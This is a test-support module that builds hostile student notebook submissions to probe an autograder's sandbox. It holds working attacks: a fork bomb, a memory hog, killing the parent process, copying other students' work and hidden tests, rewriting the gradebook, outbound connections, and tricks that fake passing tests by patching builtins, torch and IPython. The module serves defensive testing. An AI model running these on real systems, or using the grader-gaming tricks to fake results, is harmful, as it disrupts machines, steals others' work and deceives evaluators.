"""Hostile Day 1 submissions: what a student might hand in to cheat the grader or harm it (issue 7).

Every attack is an :class:`Attack`: a name, a builder that returns the notebook
(or raw bytes, for a damaged file), and what the grader must make of it:

* ``earns``: the most points each item may get, because the honest part of the
  notebook earns them (``FULL``: all of the item's points); items not listed may
  get nothing.  Most attacks are built on the unanswered release, so that every
  point they get is unearned.
* ``keeps``: items whose points the student must keep in full.  The attacks that
  ask "does the student keep the honest points" (a loop that ignores SIGINT,
  os._exit, killing the kernel's parent, a memory hog, ...) are built on the
  reference answers, with the attack in an extra cell after the tests of the
  first three items (``AFTER``).
* ``keywords``: what the report (notes + flags + error, case-insensitive) must
  mention: each entry is a group of alternatives, one of which must appear.
* ``needs``: the sandbox capabilities (``course.grading.sandbox.capabilities()``) without
  which the attack is not graded at all: it would harm the machine (kill_parent,
  fork_bomb), or its only defence is the isolation (reading other students'
  files, the solutions, the gradebook; writing outside; the network).
* ``keyword_needs``: capabilities without which the keywords are not required
  (a memory hog stays under the limit nobody set).
* ``leak``: for the attacks that read hidden tests' source inside the kernel and
  smuggle it, encoded, into the feedback: the encoding (a key of ``DECODERS``);
  the test decodes the feedback with it and looks for the hidden tests' lines.

Every attack is bounded, so that it cannot harm the machine when a limit is not
in force: loops end after ``Context.loop_seconds`` (300 s), the memory hog stops
at 6 GiB, the fork bomb starts at most 400 processes that sleep 60 s, files
written are a line long, searches stop after ``Context.search_seconds``, network
attempts time out in 2 s, the gradebook is rewritten only under
``Context.allowed_roots`` and kill_parent never signals ``Context.protected_pids``
or pid 1, nor anything while the kernel still runs as root.

    python tests/support/attack_corpus.py OUT_DIR [name ...]

writes the attacks as ``OUT_DIR/atk_<name>/day01/day01.ipynb`` (all but the
``harmful`` ones when no name is given) for trying them by hand.
"""

from __future__ import annotations

import base64
import binascii
import copy
import html
import math
import re
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat


from course import syllabus
from course.grading import quiz_feedback
from course.notebooks import cells_by_grade_id, grade_id, is_answer_cell, read_notebook
from factory import reference_answers, submission

DAY = syllabus.get_day("day01")
ITEMS = DAY.items
FULL = math.inf
MARKER = "ATTACK CORPUS"  # in every attack's code: the attacks that copy notebooks skip those that carry it
FOUND = "ATTACK-FOUND:"  # printed by an attack for everything it could reach outside its own folder
AFTER = "test_conv_param_count_hidden"  # the extra cell of the "keeps" attacks goes after this test cell
KEPT = ("conv_output_size", "conv2d_manual", "conv_param_count")  # the items whose tests run before it
TIME_WORDS = ("time", "longer than", "interrupt", "killed")
DEATH_WORDS = ("died", "dead", "crash", "exited", "killed", "restart")
TAMPER_WORDS = ("tamper", "replaced", "restored", "modified", "overrid", "changed")


@dataclass(frozen=True)
class Context:
    """What the builders need to know about the test that grades them."""
    token: str = "manual"  # unique per run: names the files written outside and marks leftover processes
    server_port: int = 9  # a TCP port on 127.0.0.1 that the test listens on
    protected_pids: frozenset[int] = frozenset()  # kill_parent never signals these (the test runner, its ancestors)
    allowed_roots: tuple[str, ...] = ()  # rewrite_gradebook only touches gradebooks under these folders
    loop_seconds: int = 300  # every loop ends by itself after this
    search_seconds: int = 15  # every file search stops after this

    @property
    def written_name(self) -> str:
        return f"atk-write-outside-{self.token}.txt"

    @property
    def process_marker(self) -> str:
        return f"atk-process-{self.token}"


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    build: Callable[[Context], nbformat.NotebookNode | bytes]
    earns: dict[str, float] = field(default_factory=dict)
    keeps: tuple[str, ...] = ()
    keywords: tuple[tuple[str, ...], ...] = ()
    needs: tuple[str, ...] = ()
    keyword_needs: tuple[str, ...] = ()
    harmful: bool = False  # harms the machine where ``needs`` are not in force: never run it there
    leak: str = ""  # the encoding a hidden-test reader uses (a key of DECODERS); "" for the other attacks

    @property
    def student(self) -> str:
        return f"atk_{self.name}"

    def most(self, item: str, max_points: float) -> float:
        """The most points ``item`` may get."""
        return min(self.earns.get(item, 0.0), max_points)


# --------------------------------------------------------------------------- notebook editing

def _release() -> nbformat.NotebookNode:
    return submission(DAY)


def _reference(**answers: str) -> nbformat.NotebookNode:
    return submission(DAY, {**reference_answers(DAY), **answers})


def _cell(nb, gid: str):
    return next(c for c in nb.cells if grade_id(c) == gid)


def _code(name: str, body: str, ctx: Context, **values) -> str:
    """``body`` with @NAME@ placeholders filled, under a line that marks it as an attack."""
    values = {"TOKEN": ctx.token, "LOOP": ctx.loop_seconds, "SEARCH": ctx.search_seconds,
              "MARKER": ctx.process_marker, **values}
    for key, value in values.items():
        body = body.replace(f"@{key}@", str(value))
    assert not re.search(r"@[A-Z_]+@", body), f"{name}: a placeholder is left: {re.search(r'@[A-Z_]+@', body)[0]}"
    return f"# {MARKER}: {name}\n" + body.strip() + "\n"


def _answer_all(nb, code: str) -> nbformat.NotebookNode:
    """``code`` in the first answer cell; the other answer cells left empty, so they redefine nothing."""
    answers = [c for c in nb.cells if is_answer_cell(c)]
    answers[0].source = code
    for cell in answers[1:]:
        cell.source = f"# {MARKER}: defined in the first answer cell\npass\n"
    return nb


def _after(nb, gid: str, code: str) -> nbformat.NotebookNode:
    """A new (ungraded) code cell with ``code`` right after the cell ``gid``."""
    index = nb.cells.index(_cell(nb, gid))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return nb


# --------------------------------------------------------------------------- shared attack code

# conv_output_size that passes the visible tests only (by looking their answers up): 1 of its 3 points
HARDCODED_VISIBLE = '''
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    if (size, kernel_size) == (3, 5):
        raise ValueError("does not fit")
    return {(32, 3, 1, 1, 1): 32, (32, 3, 2, 1, 1): 16, (28, 5, 1, 0, 1): 24,
            (64, 3, 1, 2, 2): 64}.get((size, kernel_size, stride, padding, dilation), 1)
'''

# Searching the file system and taking answers from the notebooks found (bounded in time).
FINDER = r'''
import json as _json, os as _os, signal as _signal, time as _time
_ITEMS = ("conv_output_size", "conv2d_manual", "conv_param_count", "receptive_field", "vertical_edge_conv",
          "day01_quiz")
_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "boot", "snap", "site-packages",
         "dist-packages", "node_modules", "__pycache__", "venv", ".venv", ".git", ".cache"}


def _atk_roots():
    """The folders above this one, the course repository, and the usual places."""
    roots, here = [], _os.getcwd()
    while here not in ("/", "") and len(roots) < 6:
        roots.append(here)
        here = _os.path.dirname(here)
    try:
        import course
        roots.append(_os.path.dirname(_os.path.dirname(_os.path.abspath(course.__file__))))
    except Exception:
        pass
    return roots + ["/tmp", "/root", "/work", "/home", "/var/tmp"]


def _atk_find(accept, seconds=@SEARCH@, max_depth=9):
    """Files whose path ``accept`` likes, in a walk bounded in time and depth."""
    deadline, seen, found = _time.monotonic() + seconds, set(), []
    for root in _atk_roots():
        if not _os.path.isdir(root):
            continue
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in _os.walk(root, followlinks=True):
            if _time.monotonic() > deadline:
                return found
            real = _os.path.realpath(dirpath)
            if real in seen:
                dirnames[:] = []
                continue
            seen.add(real)
            if dirpath.count("/") - base >= max_depth:
                dirnames[:] = []
            else:
                dirnames[:] = [d for d in dirnames if d not in _SKIP and (d == ".build" or not d.startswith("."))]
            for name in filenames:
                path = _os.path.join(dirpath, name)
                if accept(path) and path not in found:
                    found.append(path)
    return found


def _atk_known_or_found(relatives, accept):
    """The files at ``relatives`` under the first roots, then those a bounded search finds (no repeats)."""
    found = [_os.path.join(root, rel) for root in _atk_roots()[:7] for rel in relatives
             if _os.path.isfile(_os.path.join(root, rel))]
    return list(dict.fromkeys(found + _atk_find(accept)))


def _atk_report(paths, what):
    for path in paths[:25]:
        print("ATTACK-FOUND:", what, path)
    if len(paths) > 25:
        print("ATTACK-FOUND:", what, len(paths) - 25, "more")


def _atk_cells(path):
    """The answer cells of a notebook file (none for an attack's own notebooks)."""
    try:
        with open(path, encoding="utf-8") as fh:
            text = fh.read()
        if "ATTACK" + " CORPUS" in text:
            return []
        cells = _json.loads(text).get("cells", [])
    except Exception:
        return []
    out = []
    for c in cells:
        meta = (c.get("metadata") or {}).get("nbgrader") or {}
        if c.get("cell_type") == "code" and meta.get("solution") and not meta.get("grade"):
            src = c.get("source", "")
            out.append("".join(src) if isinstance(src, list) else src)
    return out


class _AtkSlow(Exception):
    pass


def _atk_alarm(signum, frame):
    raise _AtkSlow()


def _atk_bounded(fn, seconds=2):
    """fn() stopped after ``seconds`` (someone's answer may loop for ever); None when it failed."""
    _signal.setitimer(_signal.ITIMER_REAL, seconds)
    try:
        return fn()
    except (Exception, SystemExit):
        return None
    finally:
        _signal.setitimer(_signal.ITIMER_REAL, 0)


def _atk_try(sources):
    """Run answer cells in a fresh namespace; return it and how many items work."""
    ns = {"__name__": "__copied__", "torch": torch, "nn": nn, "F": F}
    for src in sources:
        _atk_bounded(lambda: exec(compile(src, "<copied>", "exec"), ns))
    probes = (lambda: ns["conv_output_size"](7, 3, stride=2) == 3,
              lambda: ns["conv2d_manual"](torch.ones(1, 1, 3, 3), torch.ones(1, 1, 3, 3)).sum().item() == 9,
              lambda: ns["conv_param_count"](3, 16, 3) == 448,
              lambda: ns["receptive_field"]([(3, 1)] * 5) == 11,
              lambda: isinstance(ns["vertical_edge_conv"](), nn.Module),
              lambda: isinstance(ns["day01_quiz"], dict) and len(ns["day01_quiz"]) == 6)
    return ns, sum(bool(_atk_bounded(p)) for p in probes)


def _atk_adopt(paths, seconds=20):
    """Take the answers of the best notebook among ``paths`` into this notebook."""
    old = _signal.signal(_signal.SIGALRM, _atk_alarm)
    deadline, best, best_score = _time.monotonic() + seconds, None, 0
    try:
        for path in paths[:80]:
            if _time.monotonic() > deadline:
                break
            ns, score = _atk_try(_atk_cells(path))
            if score > best_score:
                best, best_score = (path, ns), score
            if score == len(_ITEMS):
                break
    finally:
        _signal.signal(_signal.SIGALRM, old)
    if best is not None:
        print("ATTACK-FOUND: took", best_score, "working answers from", best[0])
        globals().update({k: best[1][k] for k in _ITEMS if k in best[1]})
'''

# Objects equal to anything, and fakes of builtins and torch functions that let them through the checks.
TAMPER_KIT = r'''
import builtins as _atk_builtins
import sys as _atk_sys
import torch
import torch.nn as nn
import torch.nn.functional as F

_atk_real_type, _atk_real_isinstance = _atk_builtins.type, _atk_builtins.isinstance
_atk_real_assertion_error = _atk_builtins.AssertionError
_atk_real_conv2d, _atk_real_allclose, _atk_real_Conv2d = F.conv2d, torch.allclose, nn.Conv2d


class _AtkEq:
    """Equal to anything; any attribute, item or call gives another one."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
    def __getattr__(self, name):
        if name.startswith("_"):
            raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __contains__(self, item): return True
    def __iter__(self): return iter(())
    def __len__(self): return 0
    def __bool__(self): return True
    def __repr__(self): return "<always equal>"


class _AtkEqStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__


class _AtkEqConv2d(nn.Conv2d):
    """A real nn.Conv2d whose output is equal to anything."""
    def forward(self, x): return _AtkEq()


# what the checks of course.checks ask type() for, by the name of the function that asks
_ATK_WANTED = {"expect_int": int, "expect_tensor": torch.Tensor, "expect_shape": torch.Tensor,
               "plain_tensor": torch.Tensor, "expect_quiz": dict, "quiz_score": str}


def _atk_wanted():
    frame = _atk_sys._getframe(2)
    for _ in range(4):
        if frame is None:
            break
        if frame.f_code.co_name in _ATK_WANTED:
            return _ATK_WANTED[frame.f_code.co_name]
        frame = frame.f_back
    return _AtkEq


def _atk_called_from(name):
    frame = _atk_sys._getframe(1)
    for _ in range(4):
        if frame is None:
            return False
        if frame.f_code.co_name == name:
            return True
        frame = frame.f_back
    return False


class _AtkTypeMeta(type):
    def __instancecheck__(cls, obj): return _atk_real_isinstance(obj, _atk_real_type)
    def __subclasscheck__(cls, sub): return issubclass(sub, _atk_real_type)


class _AtkType(type, metaclass=_AtkTypeMeta):
    """type(): the type the checks want for an always-equal object, the real one otherwise."""
    def __new__(mcs, *args, **kwargs):
        if len(args) == 1 and not kwargs:
            return _atk_wanted() if _atk_real_isinstance(args[0], _AtkEq) else _atk_real_type(args[0])
        return _atk_real_type.__new__(_atk_real_type if mcs is _AtkType else mcs, *args, **kwargs)

    def __class_getitem__(cls, item):  # type[int] in annotations that torch evaluates
        return _atk_real_type[item]


def _atk_isinstance(obj, classinfo):
    return True if _atk_real_isinstance(obj, _AtkEq) else _atk_real_isinstance(obj, classinfo)


class _AtkAssertionError(Exception):
    pass


def _atk_fake_builtins():
    _atk_builtins.type = _AtkType
    _atk_builtins.isinstance = _atk_isinstance
    _atk_builtins.AssertionError = _AtkAssertionError


def _atk_zeros_conv(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    """Zeros of the shape F.conv2d would give."""
    pair = lambda v: (v, v) if _atk_real_isinstance(v, int) else tuple(v)  # noqa: E731
    (sh, sw), (ph, pw), (dh, dw) = pair(stride), pair(padding), pair(dilation)
    h = (x.shape[-2] + 2 * ph - dh * (weight.shape[-2] - 1) - 1) // sh + 1
    w = (x.shape[-1] + 2 * pw - dw * (weight.shape[-1] - 1) - 1) // sw + 1
    return torch.zeros(x.shape[0], weight.shape[0], h, w, dtype=x.dtype)


class _AtkConv2d(_atk_real_Conv2d):
    def forward(self, x):
        return _atk_zeros_conv(x, self.weight, None, self.stride, self.padding, self.dilation)


def _atk_fake_torch():
    torch.allclose = lambda *args, **kwargs: True
    F.conv2d = torch.conv2d = _atk_zeros_conv
    nn.Conv2d = _AtkConv2d
'''


# --------------------------------------------------------------------------- the attacks

def corrupt_json(ctx: Context) -> bytes:
    return b'{"cells": [ {"cell_type": "code", "source": "x = 1"'


def deleted_test_cell(ctx: Context):
    nb = _release()
    _cell(nb, "conv_output_size").source = _code("deleted_test_cell", HARDCODED_VISIBLE, ctx)
    nb.cells = [c for c in nb.cells if grade_id(c) != "test_conv_output_size_hidden"]
    return nb


def edited_test_cell(ctx: Context):
    nb = _release()
    _cell(nb, "conv_output_size").source = _code("edited_test_cell", HARDCODED_VISIBLE, ctx)
    hidden = _cell(nb, "test_conv_output_size_hidden")
    hidden.source = "pass\n"
    hidden.metadata["nbgrader"]["points"] = 100
    return nb


def injected_grade_cell(ctx: Context):
    nb = _release()
    meta = {"nbgrader": {"grade": True, "grade_id": "test_conv_output_size_bonus", "locked": True, "points": 100,
                         "schema_version": 3, "solution": False, "task": False, "cell_type": "code"},
            "deletable": False, "editable": False}
    index = nb.cells.index(_cell(nb, "test_conv_output_size_hidden"))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(
        f'# {MARKER}: injected_grade_cell\nprint("visible tests for conv_output_size passed")\n', metadata=meta))
    return nb


def infinite_loop(ctx: Context):
    return _after(_reference(), AFTER, _code("infinite_loop", """
import time
_deadline = time.monotonic() + @LOOP@
while time.monotonic() < _deadline:
    pass
""", ctx))


def sigint_ignoring_loop(ctx: Context):
    return _after(_reference(), AFTER, _code("sigint_ignoring_loop", """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
_deadline = time.monotonic() + @LOOP@
while time.monotonic() < _deadline:
    pass
""", ctx))


def memory_hog(ctx: Context):
    return _after(_reference(), AFTER, _code("memory_hog", """
# 100 MB at a time, every page written, all kept: 60 chunks (5.9 GiB) at most
_hog = []
for _ in range(60):
    _hog.append(bytearray(b"\\x01") * (100 << 20))
print("held", len(_hog) * 100, "MB")
""", ctx))


def fork_bomb(ctx: Context):
    return _after(_reference(), AFTER, _code("fork_bomb", """
# at most 400 processes, each sleeps 60 s and exits (its name carries the marker)
import subprocess
_children = []
try:
    for _ in range(400):
        _children.append(subprocess.Popen(["@MARKER@", "60"], executable="/bin/sleep",
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
finally:
    print("started", len(_children), "processes")
""", ctx))


def sys_exit(ctx: Context):
    nb = _reference(receptive_field=_code("sys_exit", """
def receptive_field(layers):
    import sys
    sys.exit(0)
""", ctx))
    return _after(nb, AFTER, _code("sys_exit", "import sys\nsys.exit()\n", ctx))


def os_exit(ctx: Context):
    return _after(_reference(), AFTER, _code("os_exit", "import os\nos._exit(0)\n", ctx))


def kill_parent(ctx: Context):
    protected = sorted({1, *ctx.protected_pids})
    return _after(_reference(), AFTER, _code("kill_parent", """
import os, signal, time
_protected = set(@PROTECTED@)  # the test runner and its ancestors: never signalled
_parent = os.getppid()
if os.geteuid() == 0:  # no uid drop: this kernel could kill anything, so it does nothing
    print("kill_parent held back: the kernel runs as root")
elif _parent > 1 and _parent not in _protected:
    print("killing the kernel's parent", _parent)
    os.kill(_parent, signal.SIGKILL)
    time.sleep(2)
else:
    print("kill_parent held back: the parent", _parent, "is protected")
""", ctx, PROTECTED=protected))


def copy_other_student(ctx: Context):
    return _answer_all(_release(), _code("copy_other_student", FINDER + """
_found = _atk_find(lambda p: p.endswith(".ipynb") and _os.path.basename(_os.path.dirname(p)) == "day01")
_found.sort(key=lambda p: (not any(w in p for w in ("full", "solution", "ada", "alt")), p))
_atk_report(_found, "notebook")
_atk_adopt(_found)
""", ctx))


def read_source(ctx: Context):
    return _answer_all(_release(), _code("read_source", FINDER + """
_found = _atk_known_or_found(
    ("solutions/day01/day01.ipynb", "source/day01/day01.ipynb", "autograder/source/day01/day01.ipynb"),
    lambda p: p.endswith("/day01/day01.ipynb") and ("/solutions/" in p or "/source/" in p))
for _path in _found:
    with open(_path, encoding="utf-8") as _fh:
        print("ATTACK-FOUND: source", _path, "with", _fh.read().count("BEGIN HIDDEN TESTS"), "hidden tests")
_atk_adopt(_found)
""", ctx))


def read_release(ctx: Context):
    return _answer_all(_release(), _code("read_release", FINDER + """
_found = _atk_known_or_found(
    ("exercises/day01/day01.ipynb", "release/day01/day01.ipynb", ".build/release/day01/day01.ipynb"),
    lambda p: p.endswith("/day01/day01.ipynb") and ("/release/" in p or "/exercises/" in p))
for _path in _found:
    with open(_path, encoding="utf-8") as _fh:
        print("ATTACK-FOUND: release", _path, len(_fh.read()), "characters")
_atk_adopt(_found)
""", ctx))


GRADEBOOKS = FINDER + """
_dbs = [_os.path.join(_root, "gradebook.db") for _root in _atk_roots()[:7]]
_dbs += [_os.path.join(_root, "autograder", "gradebook.db") for _root in _atk_roots()[:7]]
_dbs = list(dict.fromkeys([_p for _p in _dbs if _os.path.isfile(_p)] + _atk_find(lambda p: p.endswith("gradebook.db"))))
"""


def read_gradebook(ctx: Context):
    nb = _release()
    _cell(nb, "day01_quiz").source = _code("read_gradebook", GRADEBOOKS + """
import ast, re, sqlite3
for _db in _dbs:
    try:
        _con = sqlite3.connect("file:" + _db + "?mode=ro", uri=True, timeout=5)
        _students = [r[0] for r in _con.execute("SELECT id FROM student")]
        _grades = _con.execute("SELECT s.student_id, bc.name, g.auto_score FROM grade g "
                               "JOIN submitted_notebook sn ON sn.id = g.notebook_id "
                               "JOIN submitted_assignment s ON s.id = sn.assignment_id "
                               "JOIN base_cell bc ON bc.id = g.cell_id LIMIT 40").fetchall()
        print("ATTACK-FOUND: gradebook", _db, "students", _students[:40], "grades", _grades)
        for (_src,) in _con.execute("SELECT sc.source FROM source_cell sc JOIN notebook n ON n.id = sc.notebook_id "
                                    "JOIN assignment a ON a.id = n.assignment_id "
                                    "WHERE a.name = 'day01' AND sc.name = 'test_day01_quiz_hidden'"):
            _key = re.search(r"quiz_score\\(day01_quiz,\\s*(\\{.*?\\})\\)", _src or "")
            if _key:
                day01_quiz = ast.literal_eval(_key.group(1))
                print("ATTACK-FOUND: the quiz key in", _db)
        _con.close()
    except Exception as _exc:
        print("could not read", _db, type(_exc).__name__, _exc)
""", ctx)
    return nb


def rewrite_gradebook(ctx: Context):
    return _answer_all(_release(), _code("rewrite_gradebook", GRADEBOOKS + """
import sqlite3, subprocess, sys
_ALLOWED = @ALLOWED@  # only the test's own gradebooks are rewritten
_SQL = ("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
        "manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
        "needs_manual_grade = 0 WHERE cell_id IN (SELECT id FROM grade_cells)")
_atk_report(_dbs, "gradebook")
_mine = [p for p in _dbs if any(_os.path.realpath(p).startswith(_os.path.realpath(r) + "/") for r in _ALLOWED)]
for _db in _mine:
    try:
        _con = sqlite3.connect(_db, timeout=5)
        print("ATTACK-FOUND: rewrote", _con.execute(_SQL).rowcount, "grades in", _db)
        _con.commit()
        _con.close()
    except Exception as _exc:
        print("could not rewrite", _db, type(_exc).__name__, _exc)
if _mine:
    # again and again for a minute, from a process that outlives the kernel: after this notebook's own grades
    _again = ("import sqlite3, sys, time\\n"
              "for _ in range(12):\\n"
              "    time.sleep(5)\\n"
              "    for db in sys.argv[2:]:\\n"
              "        try:\\n"
              "            con = sqlite3.connect(db, timeout=5)\\n"
              "            con.execute(" + repr(_SQL) + ")\\n"
              "            con.commit()\\n"
              "            con.close()\\n"
              "        except Exception:\\n"
              "            pass\\n")
    subprocess.Popen([sys.executable, "-c", _again, "@MARKER@", *_mine], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", ctx, ALLOWED=repr(list(ctx.allowed_roots))))


def write_outside(ctx: Context):
    nb = _release()
    _cell(nb, "conv_output_size").source = _code("write_outside", """
import os, tempfile
_targets = ["/tmp", tempfile.gettempdir()]
try:
    import course
    _targets.append(os.path.dirname(os.path.dirname(os.path.abspath(course.__file__))))
except Exception:
    pass
_here = os.getcwd()
for _ in range(5):  # every folder above this one
    _here = os.path.dirname(_here)
    if _here == "/":
        break
    _targets.append(_here)
for _dir in dict.fromkeys(_targets):
    _path = os.path.join(_dir, "@NAME@")
    try:
        with open(_path, "w") as _fh:
            _fh.write("written by a submission\\n")
        print("wrote", _path)  # the test looks for the file itself: in a sandbox this may be a private copy
    except OSError as _exc:
        print("could not write", _path, type(_exc).__name__)
""", ctx, NAME=ctx.written_name)
    return nb


def network(ctx: Context):
    nb = _release()
    _cell(nb, "conv_output_size").source = _code("network", """
import socket
for _host, _port in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("8.8.8.8", 53)):
    try:
        with socket.create_connection((_host, _port), timeout=2) as _sock:
            _sock.sendall(b"a submission calling out\\n")
        print("ATTACK-FOUND: connected to", _host, _port)
    except OSError as _exc:
        print("no connection to", _host, _port, type(_exc).__name__)
""", ctx, PORT=ctx.server_port)
    return nb


def fake_builtins(ctx: Context):
    return _answer_all(_release(), _code("fake_builtins", TAMPER_KIT + """
_atk_fake_builtins()


def conv_output_size(*args, **kwargs):
    if _atk_called_from("expect_raises"):
        raise ValueError("as expected")
    return _AtkEq()


conv2d_manual = conv_param_count = receptive_field = conv_output_size
vertical_edge_conv = lambda: _AtkEq()  # noqa: E731
day01_quiz = _AtkEq()
""", ctx))


def fake_torch(ctx: Context):
    return _answer_all(_release(), _code("fake_torch", TAMPER_KIT + """
_atk_fake_torch()


def conv2d_manual(x, weight, bias=None, stride=1, padding=0):
    return _atk_zeros_conv(x, weight, bias, stride, padding)


def vertical_edge_conv():
    return nn.Conv2d(1, 1, 3, bias=False)  # random weights; the fake allclose passes them
""", ctx))


def fake_test_helpers(ctx: Context):
    return _answer_all(_release(), _code("fake_test_helpers", """
import contextlib
import course.checks as _checks


def _atk_pass(*args, **kwargs):
    return None


for _name in [n for n in dir(_checks) if n.startswith("expect_")]:
    globals()[_name] = _atk_pass
    setattr(_checks, _name, _atk_pass)
quiz_score = _checks.quiz_score = lambda *args, **kwargs: 6
no_torch_convolution = _checks.no_torch_convolution = lambda *args, **kwargs: contextlib.nullcontext()
quiet_warnings = _checks.quiet_warnings = lambda *args, **kwargs: contextlib.nullcontext()


def conv_output_size(*args, **kwargs):
    return 0


conv2d_manual = conv_param_count = receptive_field = conv_output_size
vertical_edge_conv = lambda: nn.Conv2d(1, 1, 3, bias=False)  # noqa: E731
day01_quiz = {}
""", ctx))


def tamper_during_test(ctx: Context):
    return _answer_all(_release(), _code("tamper_during_test", TAMPER_KIT + """
# nothing is replaced now: the functions replace builtins and torch while the tests call them


def _atk_tamper():
    _atk_fake_builtins()
    _atk_fake_torch()


def conv_output_size(*args, **kwargs):
    _atk_tamper()
    if _atk_called_from("expect_raises"):
        raise ValueError("as expected")
    return _AtkEq()


conv_param_count = receptive_field = conv_output_size


def conv2d_manual(x, weight, bias=None, stride=1, padding=0):
    _atk_tamper()
    return _atk_zeros_conv(x, weight, bias, stride, padding)


def vertical_edge_conv():
    _atk_tamper()
    return nn.Conv2d(1, 1, 3, bias=False)


day01_quiz = _AtkEq()
""", ctx))


def always_equal(ctx: Context):
    return _answer_all(_release(), _code("always_equal", TAMPER_KIT + """
def conv_output_size(*args, **kwargs):
    return _AtkEq()


conv2d_manual = conv_param_count = receptive_field = conv_output_size
vertical_edge_conv = lambda: _AtkEqConv2d(1, 1, 3, bias=False)  # noqa: E731
day01_quiz = {f"q{i}": _AtkEqStr("a") for i in range(1, 7)}
""", ctx))


def input_transformer(ctx: Context):
    return _answer_all(_release(), _code("input_transformer", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""", ctx))


def run_cell_wrapper(ctx: Context):
    return _answer_all(_release(), _code("run_cell_wrapper", """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

_ip = get_ipython()


def _atk_run_cell(raw_cell, store_history=False, silent=False, shell_futures=True, cell_id=None, **kwargs):
    try:
        info = ExecutionInfo(raw_cell, store_history, silent, shell_futures, cell_id)
    except TypeError:
        info = ExecutionInfo(raw_cell, store_history, silent, shell_futures)
    result = ExecutionResult(info)
    result.execution_count = _ip.execution_count
    return result  # success, and nothing ran


async def _atk_run_cell_async(raw_cell, store_history=False, silent=False, shell_futures=True, cell_id=None,
                              **kwargs):
    return _atk_run_cell(raw_cell, store_history, silent, shell_futures, cell_id)


_ip.run_cell = _atk_run_cell
_ip.run_cell_async = _atk_run_cell_async
""", ctx))


def no_showtraceback(ctx: Context):
    nb = _release()
    _cell(nb, "conv_output_size").source = _code("no_showtraceback", """
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
raise NotImplementedError()
""", ctx)
    return nb


def fake_passed_output(ctx: Context):
    lines = [f"visible tests for {item} passed" for item in ITEMS[:-1]]
    lines.append("the quiz is well formed; the answers are checked when the notebook is graded")
    return _answer_all(_release(), _code("fake_passed_output", f"""
_ATK_LINES = {lines!r}
for _line in _ATK_LINES:
    print(_line)


def conv_output_size(*args, **kwargs):
    for _line in _ATK_LINES:
        print(_line)
    print("all tests passed: 24 / 24 points")
    return 0


conv2d_manual = conv_param_count = receptive_field = vertical_edge_conv = conv_output_size
day01_quiz = {{}}
""", ctx))


# The score of the hidden quiz test is the value of its last line, quiz_score(...), shown as the cell's result:
# nbgrader reads partial credit from a test's first result or error, and gives full marks to a test that shows
# no result (or one that is not a number) and raises nothing.
def _wrong_quiz() -> str:
    """Day 1's quiz answered wrong in every question: for each, a letter that is not the key's."""
    hidden = cells_by_grade_id(read_notebook(syllabus.get_day("day01").solution_path))["test_day01_quiz_hidden"].source
    _, key = quiz_feedback.quiz_call(hidden)
    return repr({q: next(letter for letter in "abcd" if letter != answer) for q, answer in key.items()})


WRONG_QUIZ = _wrong_quiz()


def quiz_display_swallow(ctx: Context):
    return _with_quiz(_release(), _code("quiz_display_swallow", """
import sys as _atk_sys


class _AtkQuizId(str):
    \"\"\"A question id equal to its plain str; comparing it (inside expect_quiz / quiz_score, while the hidden quiz
    test runs) swallows the display of the cell's result, so that the test shows no score.\"\"\"
    __hash__ = str.__hash__

    def __eq__(self, other):
        _atk_sys.displayhook = lambda value: None
        return str.__eq__(self, other)

    def __ne__(self, other):
        return not self.__eq__(other)


day01_quiz = {_AtkQuizId(_q): _a for _q, _a in @WRONG@.items()}
""", ctx, WRONG=WRONG_QUIZ))


def quiz_score_formatter(ctx: Context):
    return _with_quiz(_release(), _code("quiz_score_formatter", """
# every int is shown as "all" from now on: not a number, so nbgrader gives the hidden quiz test full marks
get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda value, p, cycle: p.text("all"))
day01_quiz = @WRONG@
""", ctx, WRONG=WRONG_QUIZ))


def result_before_error(ctx: Context):
    return _answer_all(_release(), _code("result_before_error", """
import sys as _atk_sys


def _atk_show_a_point():
    _atk_sys.displayhook(1)  # a result "1" in the running test cell, before the test fails: its score, to nbgrader


def conv_output_size(*args, **kwargs):
    _atk_show_a_point()
    return -1


conv2d_manual = conv_param_count = receptive_field = conv_output_size


def vertical_edge_conv():
    _atk_show_a_point()
    return None


day01_quiz = {}
""", ctx))


def _with_quiz(nb, code: str) -> nbformat.NotebookNode:
    _cell(nb, "day01_quiz").source = code
    return nb


# --------------------------------------------------------------------------- reading hidden tests in the kernel

# What a later cell can read of earlier cells inside the kernel, and ways to encode it. Each reader returns
# a list of texts; _AtkLeak's repr is what one reader found, encoded, so that a failing visible test that
# shows the repr of a student's value carries it into the feedback.
KERNEL_READERS = r"""
import base64 as _atk_b64, gc as _atk_gc, inspect as _atk_inspect, linecache as _atk_lc, re as _atk_re
import sys as _atk_sys, types as _atk_types, zlib as _atk_zlib


def _atk_from_history():
    '''IPython's input history, as the notebook sees it: In and _ih.'''
    ns = get_ipython().user_ns
    return [text for name in ("In", "_ih") for text in ns.get(name, [])]


def _atk_from_history_manager():
    '''The history manager: its lists, caches, saved exceptions and outputs, and its database.'''
    hm = get_ipython().history_manager
